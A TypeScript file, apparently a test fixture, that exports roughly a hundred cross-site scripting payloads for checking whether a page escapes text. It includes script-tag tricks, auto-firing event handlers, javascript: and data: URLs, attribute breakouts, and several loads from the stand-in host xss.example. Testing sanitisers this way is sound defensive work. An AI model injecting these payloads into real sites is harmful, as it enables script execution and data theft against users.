/** A hundred texts that attack a page that does not treat text as text. Each sets `xss` where it runs. */
const run = 'window.xss=1'

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src=//xss.example/x.js></script>`,
  `<script\t>${run}</script\n>`,
  `<script>//<![CDATA[\n${run}\n//]]></script>`,
  `</script><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x data-xss onerror=${run}>">`,
  `--><script>${run}</script>`,
  `<!--<img src="--><img src=x data-xss onerror=${run}//">`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></p><script>${run}</script>`,
]

/** Elements that start by themselves, with the event that they start. */
const handlers = [
  ['img src=x', 'onerror'],
  ['img src=x srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video autoplay src=x', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['source src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=0', 'onfocus'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div style=animation:x', 'onanimationstart'],
  ['p', 'onmouseover'],
  ['p', 'onclick'],
  ['form', 'onsubmit'],
  ['dialog open', 'onclose'],
  ['meter', 'onpointerenter'],
  ['x', 'onwheel'],
].map(([element, event]) => `<${element} data-xss ${event}="${run}">`)

/** Where the text becomes an address. */
const enderecos = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `javascript&colon;${run}`,
  `javascript://xss.example/%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `//xss.example/path`,
  `\\\\xss.example\\path`,
]

const links = [
  `<a href="javascript:${run}" data-xss>clique</a>`,
  `<a href="&#106;avascript:${run}" data-xss>clique</a>`,
  `<a href="javascript&Tab;:${run}" data-xss>clique</a>`,
  `<form action="javascript:${run}" data-xss><button>enviar</button></form>`,
  `<button form=x formaction="javascript:${run}" data-xss>enviar</button>`,
  `<iframe src="javascript:${run}" data-xss></iframe>`,
  `<iframe srcdoc="<script>parent.xss=1</script>" data-xss></iframe>`,
  `<svg><a xlink:href="javascript:${run}" data-xss><text>clique</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,x#x" data-xss></use></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}" data-xss /></svg>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="//xss.example/">`,
  `<math href="javascript:${run}" data-xss>clique</math>`,
  `[clique](javascript:${run})`,
]

const breakouts = [
  `"><img src=x data-xss onerror=${run}>`,
  `'><img src=x data-xss onerror=${run}>`,
  `" onfocus="${run}" autofocus data-xss x="`,
  `' onfocus='${run}' autofocus data-xss x='`,
  '` onfocus=`x` data-xss x=`',
  `" style="background:url(javascript:${run})" data-xss x="`,
  `x" onerror="${run}" data-xss src="x`,
  `"/><svg/onload=${run} data-xss>`,
  `&lt;img src=x data-xss onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
]

const others = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `';${run};//`,
  `\\';${run};//`,
  `</p><p data-xss>`,
  `<style data-xss>@import '//xss.example/x.css';</style>`,
  `<style data-xss>*{background:url(//xss.example/x)}</style>`,
  `<img src=//xss.example/pixel data-xss>`,
  `<template data-xss><script>${run}</script></template>`,
  `<x data-xss contenteditable autofocus tabindex=1>`,
  `\\u003Cscript\\u003E${run}\\u003C/script\\u003E`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\u0000<script>${run}</script>`,
  `\u202E<script>${run}</script>`,
]

export const hostis: readonly string[] = [...scripts, ...handlers, ...enderecos, ...links, ...breakouts, ...others]
